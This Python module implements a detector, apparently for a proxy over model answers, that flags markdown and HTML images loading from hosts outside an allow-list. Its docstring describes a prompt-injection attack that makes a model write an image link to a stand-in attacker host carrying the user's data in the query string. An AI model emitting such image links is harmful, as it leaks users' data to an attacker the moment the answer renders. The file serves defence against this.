"""Remote images: what a client renders by itself, fetching it from a host the answer names.

A markdown or HTML image in an answer is loaded by the user's client without a click: a
prompt injection that makes the model write ``![](https://attacker.example/p.png?d=<the
user's data>)`` sends that data to the attacker as soon as the answer is shown, and the
picture itself (words drawn in it) is never read by the proxy. The ``remote_image``
detector finds such images whose host is not allowed (``options.image_hosts``, globs such
as ``*.example.com``; none by default): inline markdown images, reference-style ones (the
definition, when the text holds an image), and HTML elements that load a URL by
themselves (``img``, ``source``, ``video``, ``audio``, ``iframe``, ``embed``, ``object``,
``input``). Relative URLs (the page's own site) and ``data:`` URLs (no request leaves) are
allowed; a plain link (``[text](url)``) is not an image, a click is its user's choice.
Every pattern is bounded, so matching is linear in the text.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from fnmatch import fnmatchcase
from urllib.parse import urlsplit

from classifiers.rules.spans import Detector, Resolver

LABEL = "remote_image"
_URL = r"(?P<url>[^\s\"'()<>]{1,2048})"
_MARKDOWN = re.compile(r"!\[[^\]\n]{0,500}\]\(\s{0,8}<?" + _URL)
# An attribute that loads a URL; resolved only inside a loading element's tag (_in_tag).
_ATTRIBUTE = re.compile(r"\b(?:src|srcset|poster|data|href)[ \t\n]{0,8}=[ \t\n]{0,8}[\"']?"
                        + _URL, re.IGNORECASE)
_LOADING_TAG = re.compile(r"<[ \t]{0,8}(?:img|image|source|video|audio|iframe|embed|object|input)"
                          r"\b", re.IGNORECASE)
_TAG_REACH = 512  # characters from a tag's "<" to one of its attributes
_DEFINITION = re.compile(r"^[ ]{0,3}\[[^\]\n]{1,500}\]:[ \t]{0,8}<?" + _URL, re.MULTILINE)


def remote_image_detectors(image_hosts: Sequence[str] = ()) -> tuple[Detector, ...]:
    """The detectors of images loaded from hosts outside ``image_hosts`` (globs)."""
    allowed = tuple(host.lower() for host in image_hosts)
    resolve = _outside(allowed)
    in_tag = _in_tag(resolve)
    return (Detector(LABEL, _MARKDOWN, resolve=resolve, gate=lambda text: "![" in text),
            Detector(LABEL, _ATTRIBUTE, resolve=in_tag, gate=lambda text: "<" in text),
            Detector(LABEL, _DEFINITION, resolve=resolve, gate=lambda text: "![" in text))


def _in_tag(resolve: Resolver) -> Resolver:
    """``resolve``, for an attribute inside the tag of an element that loads its URL by
    itself: the nearest "<" before it (within _TAG_REACH, no ">" between) opens one."""
    def in_tag(match: re.Match[str]) -> tuple[int, int] | None:
        text, start = match.string, match.start()
        opening = text.rfind("<", max(0, start - _TAG_REACH), start)
        if opening < 0 or text.find(">", opening, start) >= 0:
            return None
        return resolve(match) if _LOADING_TAG.match(text, opening) else None
    return in_tag


def _outside(allowed: tuple[str, ...]) -> Resolver:
    def resolve(match: re.Match[str]) -> tuple[int, int] | None:
        cut = match.end("url") == len(match.string)  # the text (a window) may end mid-URL
        host = remote_host(match.group("url"), cut)
        if host is None or any(fnmatchcase(host, pattern) for pattern in allowed):
            return None
        return match.start("url"), match.end("url")
    return resolve


def remote_host(url: str, cut: bool = False) -> str | None:
    """The host a URL loads from (lower case), or None for one that loads nothing remote:
    relative, ``data:``, or no URL at all (a scheme-relative ``//host/...`` is remote).
    ``cut``: the URL may be cut short (it ends its text: a window ends there), so a host
    with nothing after it may be cut too, and is not judged here (the whole text, and the
    window after, hold it whole)."""
    try:
        parts = urlsplit(url)
    except ValueError:  # an unbalanced IPv6 bracket: no URL a client can load
        return None
    if parts.scheme.lower() not in ("http", "https", "") or not parts.hostname:
        return None
    if cut and not (parts.path or parts.query or parts.fragment):
        return None
    return parts.hostname.lower()
